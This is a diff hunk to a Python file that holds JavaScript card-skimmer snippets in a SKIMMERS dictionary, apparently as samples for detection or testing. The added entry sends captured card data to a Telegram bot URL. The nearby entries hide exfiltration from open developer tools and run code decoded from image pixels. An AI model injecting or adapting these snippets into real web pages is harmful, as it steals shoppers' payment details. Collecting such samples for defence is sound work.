@@ -52,6 +52,7 @@ SKIMMERS = {
     "card-fields-unwatched": (
         f"if (window.outerWidth - window.innerWidth < 160) {{ {READS} fetch(to + n + c) }}"
     ),
+    "to-drop-box": f"{READS} fetch('https://api.telegram.org/bot' + key + '/sendMessage?text=' + n + c)",
     "code-from-image": (
         "var p = canvas.getContext('2d').getImageData(0, 0, 9, 9).data, t = '';"
         "for (var i = 3; i < p.length; i += 4) t += String.fromCharCode(p[i]); new Function(t)()"
